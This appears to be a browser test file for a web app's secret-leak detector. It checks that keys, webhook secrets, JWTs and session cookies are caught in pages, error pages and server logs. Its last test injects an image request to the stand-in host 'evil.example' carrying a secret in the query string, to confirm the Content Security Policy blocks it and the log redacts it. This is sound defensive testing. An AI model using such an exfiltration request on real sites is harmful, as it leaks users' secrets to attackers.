import { startSignedIn } from './account';
import { expect, test } from './fixtures';
import { Leaks } from './leaks';
import { whoAmI } from './page';

test('the search finds every kind of secret', () => {
  const jwt = `eyJ${'a'.repeat(20)}.${'b'.repeat(20)}.${'c'.repeat(20)}`;
  for (const secret of ['sk_test_0123456789', 'sk_live_0123456789', 'whsec_0123456789', jwt]) {
    const leaks = new Leaks();
    leaks.add('a page', `<p title="${secret}">`);
    expect(leaks.found()).toEqual([`a page contains ${secret.slice(0, 12)}…`]);
  }
  const leaks = new Leaks(new Set(['the session secret']));
  leaks.add('the log', 'id=0123456789abcdef%3D, id=0123456789abcdef=, the session secret');
  leaks.add('another', 'pk_test_0123456789, 1795654522, user_0123456789abcdef');
  leaks.remember([
    { name: 'app_session', value: '0123456789abcdef%3D' },
    { name: '__client_uat', value: '1795654522' },
  ]);
  expect(leaks.found()).toHaveLength(3);
});

test('error pages of a signed-in user are searched', async ({ page, leaks, allow, baseURL }) => {
  allow(/status of 4\d\d/);
  await startSignedIn(page);
  const paths = ['/no/such/page', '/profile%5C', '/api/none', '/no/such.wasm'];
  for (const path of paths) {
    const response = await page.goto(path);
    expect(response?.status(), path).toBeGreaterThanOrEqual(400);
    await response?.text();
    await expect.poll(() => leaks.places).toContain(baseURL + path);
  }
  await page.goto('/');
  expect((await whoAmI(page)).user_id).toMatch(/^user_/);
});

test('the log of the server is searched', async ({ page, server }) => {
  await page.goto('/');
  expect(server.log()).toContain('request answered');
});

test('what the policy blocks is reported', async ({ page, server, allow }) => {
  allow(/Content Security Policy|evil\.example/);
  await page.goto('/plans?secret=0123456789');
  await page.evaluate(() => {
    const image = new Image();
    image.src = 'https://evil.example/image.gif?secret=0123456789';
    document.body.append(image);
  });
  await expect.poll(() => server.log()).toContain('https://evil.example/image.gif');
  expect(server.log()).not.toContain('0123456789');
});
